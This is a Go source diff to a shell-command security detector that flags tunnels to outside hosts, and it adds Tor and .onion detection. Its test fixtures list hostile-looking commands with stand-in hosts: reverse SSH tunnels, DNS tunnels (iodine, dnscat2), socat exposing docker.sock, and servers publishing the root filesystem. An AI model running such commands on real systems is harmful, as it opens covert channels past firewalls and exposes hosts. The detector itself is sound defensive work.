@@ -15,7 +15,7 @@ var exfilTunnel = Detector{
 	Title:  "tunnel to outside",
 	Why:    "a tunnel lets others in past the firewall",
 	Detect: onCommands(tunnelOut),
-	Fire: append(lines(coi.Warning, "ssh -R 8080:localhost:80 u@example.com", "ssh -fN -D 1080 u@example.com", "cloudflared tunnel --url localhost:8080", "ngrok http 80", "chisel client example.com:1 R:socks", "frpc -c f.ini", "bore local 80 --to bore.pub", "lt --port 80", "autossh -M 0 -R 2222:localhost:3000 h", "iodine -f t.example.com", "cp /usr/bin/ssh /tmp/s; /tmp/s -R 1:localhost:1 h", "dnscat2 t.example.com", "tailscale funnel 80"),
+	Fire: append(lines(coi.Warning, "ssh -R 8080:localhost:80 u@example.com", "ssh -fN -D 1080 u@example.com", "cloudflared tunnel --url localhost:8080", "ngrok http 80", "chisel client example.com:1 R:socks", "frpc -c f.ini", "bore local 80 --to bore.pub", "lt --port 80", "autossh -M 0 -R 2222:localhost:3000 h", "iodine -f t.example.com", "cp /usr/bin/ssh /tmp/s; /tmp/s -R 1:localhost:1 h", "dnscat2 t.example.com", "tailscale funnel 80", "curl --socks5-hostname 127.0.0.1:9050 http://abcdefghijklmnop.onion/", "socat TCP-LISTEN:2375,bind=127.0.0.1,fork UNIX-CONNECT:/var/run/docker.sock"),
 		lines(coi.High, "ssh -R 2222:localhost:22 u@example.com", "ngrok tcp 22", "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock", "cd / && python3 -m http.server 80", "python3 -m http.server --directory / 8000", "cloudflared tunnel --url ssh://localhost:22", "php -S 0.0.0.0:80 -t /", "busybox httpd -f -p 80 -h /")...),
 	Quiet: lines("", "ssh -L 8080:localhost:80 h", "ssh username@remote_host -L 9999:example.org:80 -N -T", "python3 -m http.server 8001", "ssh -D 1080 username@host", "cloudflared --version", "ngrok config add-authtoken x", "socat TCP-LISTEN:80,fork TCP:b:80", "kubectl port-forward svc/x 80", "npx sirv-cli _site --port 9001", "php -S localhost:8000", "apt install chisel"),
 }
@@ -56,7 +56,18 @@ func tunnelOut(s *command.Simple, _ track.View) *Finding {
 		}
 	case "socat":
 		if hasAny(strings.ToLower(l), "listen") && hasAny(l, "docker.sock", "containerd.sock") {
+			if hasAny(l, "bind=127.", "bind=localhost", "bind=[::1]") {
+				return say(s, coi.Warning, "runtime socket published to this container")
+			}
 			return say(s, coi.High, "runtime socket published")
+		}
+	}
+	if s.Name == "tor" && s.Prog == base(s.Prog) && (len(s.Argv) == 1 || s.Arg("-f", "--runasdaemon", "--SocksPort")) {
+		return say(s, coi.Warning, "connection to an anonymity network")
+	}
+	for _, h := range s.Hosts() {
+		if strings.HasSuffix(strings.ToLower(h), ".onion") {
+			return say(s, coi.Warning, "host of an anonymity network").to(h)
 		}
 	}
 	if oneOf(s.Name, tunnelers...) && len(s.Argv) > 1 {
